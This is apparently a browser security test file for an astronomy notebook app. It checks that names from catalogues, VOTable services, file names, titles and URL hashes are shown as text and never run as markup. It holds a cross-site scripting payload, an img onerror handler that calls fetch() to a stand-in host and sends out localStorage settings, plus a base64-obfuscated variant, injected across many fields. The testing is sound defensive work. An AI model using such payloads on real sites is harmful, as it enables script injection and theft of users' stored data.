import { readdirSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { notebookFile, type TestCell } from '../notebookFile.ts';
import { expect, test } from './attack.ts';
import type { Target } from './target.ts';
import { fitsImage } from '../answers/fitsImage.ts';

test.use({ goesAhead: false });

/**
 * A name that is markup wherever it is not drawn as text: it asks a host of its own, and tells it what the site keeps.
 */
const named = (kind: string): string =>
  `"'><img data-smuggled src=https://${kind}.name.test/x.html onerror="globalThis.attackRan=[1];fetch('https://${kind}.name.test/kept?'+localStorage['skybook.settings'])"><b data-smuggled>`;
/** The same, made as the cell runs, so that its text names no host. */
const made = (kind: string): string => `atob('${Buffer.from(named(kind)).toString('base64')}')`;
const xml = (text: string): string =>
  text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;')
    .replaceAll("'", '&apos;');

const CATALOGUE = resolve(import.meta.dirname, '../../public/catalogues/hipparcos');

/** Cells of the reader's own that show data of others. */
const CELLS: readonly TestCell[] = [
  module(
    'values',
    `display([{ [${made('column')}]: ${made('value')} }]); display({ [${made('key')}]: ${made('text')} }); display(${made('string')}); display(Inputs.table([{ [${made('input-column')}]: ${made('input-value')} }]));`,
  ),
  module(
    'layers',
    `display(sky([{ table: [{ ra: 1, dec: 2 }], name: ${made('table-layer')} }, { moc: { 0: [1] }, name: ${made('coverage-layer')} }, { region: 'CIRCLE ICRS 1 2 3', name: ${made('region-layer')} }, { image: 'https://data.test/image.fits', name: ${made('image-layer')} }]))`,
  ),
  { id: 'described', type: 'application/sql', text: "DESCRIBE hats('https://data.test/catalogue')" },
  { id: 'asked', type: 'application/sql', text: '-- @tap https://data.test/tap\nSELECT * FROM t', output: 'asked' },
  module(
    'of-service',
    "display(sky([{ table: asked, name: 'positions' }, { moc: 'https://data.test/moc.json' }], { survey: 'https://data.test/hips' }))",
  ),
];

test('names in what a notebook of the reader’s own shows are text', async ({ target }) => {
  serveCatalogue(target);
  serveService(target);
  await target.openOwn(CELLS);
  await target.runAll();
  for (const { id } of CELLS) await expect(target.cell(id)).toHaveAttribute('data-state', 'shown');
  await target.readThrough();
  for (const sky of await target.frame.locator('[data-view=sky]').all())
    await expect(sky).not.toHaveAttribute('aria-busy', 'true');
  for (const summary of await target.frame.locator('summary').all())
    if (await summary.isVisible()) await summary.click();
  await expectText(target);
});

test('names of files, notebooks and addresses are text', async ({ target }) => {
  await target.openCells(
    [{ id: 'a', type: 'text/x-python', text: `open("/local/${named('missing-file').replaceAll('"', '\\"')}")` }],
    xml(named('title')),
  );
  const chooser = target.page.waitForEvent('filechooser');
  await target.button('Add data').click();
  await target.frame.getByRole('button', { name: /file/i }).first().click();
  await (
    await chooser
  ).setFiles([
    { name: `${named('file').replaceAll('/', '∕')}.csv`, mimeType: 'text/csv', buffer: Buffer.from('a\n1\n') },
  ]);
  await expectText(target);
  await target.open('');
  const file = notebookFile(xml(named('kept-title')), [{ id: 'a', type: 'text/markdown', text: 'x' }]);
  await target.page
    .locator('input[type=file]')
    .setInputFiles({ name: 'notebook.html', mimeType: 'text/html', buffer: Buffer.from(file) });
  await expect(target.cell('a')).toBeVisible();
  await expectText(target);
  await target.open('');
  await expect(target.page.locator('a[href^="#mine/"]').first()).toBeVisible();
  await expectText(target);
  target.internet.serve('https://author.test/missing', { type: 'text/html', status: 404, body: named('answer') });
  for (const hash of [
    `#${named('hash')}`,
    `#nb1.${named('link')}`,
    `#src=https://author.test/missing?${named('query')}`,
    `#cells/${named('shipped')}`,
    `#mine/${named('mine')}`,
  ]) {
    await target.page.evaluate((text) => (location.hash = text), hash);
    await expect(target.page.getByRole('alert').first()).toBeVisible();
    await expectText(target);
  }
});

async function expectText(target: Target): Promise<void> {
  await target.settle();
  const marks = await Promise.all(
    target.page
      .frames()
      .map((frame) =>
        frame
          .locator('[data-smuggled]')
          .evaluateAll((all) => all.map((one) => `${one.localName} in ${one.closest('[class]')?.className ?? ''}`)),
      ),
  );
  expect.soft(marks.flat(), 'names that were read as markup').toEqual([]);
  expect
    .soft(
      target.reached().filter((host) => host.endsWith('.name.test')),
      'hosts that names asked',
    )
    .toEqual([]);
  await target.expectUntouched();
}

function serveCatalogue(target: Target): void {
  for (const path of readdirSync(CATALOGUE, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => resolve(entry.parentPath, entry.name))) {
    const body = readFileSync(path);
    target.internet.serve(`https://data.test/catalogue${path.slice(CATALOGUE.length)}`, {
      type: 'application/octet-stream',
      body,
    });
  }
  const properties = readFileSync(resolve(CATALOGUE, 'hats.properties'), 'utf8').replace(
    /^(obs_collection|obs_title|obs_ack|obs_regime|bib_reference|hats_builder)=.*$/gm,
    (_line, key: string) => `${key}=${named(key.replaceAll('_', '-'))}`,
  );
  for (const name of ['hats.properties', 'properties'])
    target.internet.serve(`https://data.test/catalogue/${name}`, { type: 'text/plain', body: properties });
}

function serveService(target: Target): void {
  const name = (kind: string) => xml(named(kind));
  const table = `<?xml version="1.0"?><VOTABLE version="1.4" xmlns="http://www.ivoa.net/xml/VOTable/v1.3"><DESCRIPTION>${name('description')}</DESCRIPTION>
<RESOURCE type="results"><INFO name="QUERY_STATUS" value="OK">${name('info')}</INFO><INFO name="citation" value="${name('citation')}"/><INFO name="publisher" value="${name('publisher')}"/>
<TABLE name="${name('table')}"><DESCRIPTION>${name('table-description')}</DESCRIPTION>
<FIELD name="ra" datatype="double" unit="deg" ucd="pos.eq.ra;meta.main"/><FIELD name="dec" datatype="double" unit="deg" ucd="pos.eq.dec;meta.main"/>
<FIELD name="${name('field')}" datatype="char" arraysize="*" unit="${name('unit')}" ucd="${name('ucd')}"><DESCRIPTION>${name('field-description')}</DESCRIPTION></FIELD>
<DATA><TABLEDATA><TR><TD>1</TD><TD>2</TD><TD>${name('cell')}</TD></TR></TABLEDATA></DATA></TABLE></RESOURCE></VOTABLE>`;
  target.internet.serve('https://data.test/tap/sync', { type: 'application/x-votable+xml', body: table });
  target.internet.serve('https://data.test/moc.json', { type: 'application/json', body: '{"0":[1]}' });
  target.internet.serve('https://data.test/image.fits', {
    type: 'image/fits',
    body: fitsImage({ ra: '1.0', dec: '2.0', pixel: '1.0', step: '0.1' }, Buffer.from([1, 2, 3, 4])),
  });
  const survey = readFileSync(resolve(import.meta.dirname, '../../public/hips/hipparcos/properties'), 'utf8').replace(
    /^(obs_\w+|hips_creator|hips_copyright|creator_did|publisher_did)(\s*=).*$/gm,
    (_line, key: string, is: string) => `${key}${is} ${named(key.replaceAll('_', '-'))}`,
  );
  target.internet.serve('https://data.test/hips/properties', { type: 'text/plain', body: survey });
}

function module(id: string, text: string): TestCell {
  return { id, type: 'module', text };
}
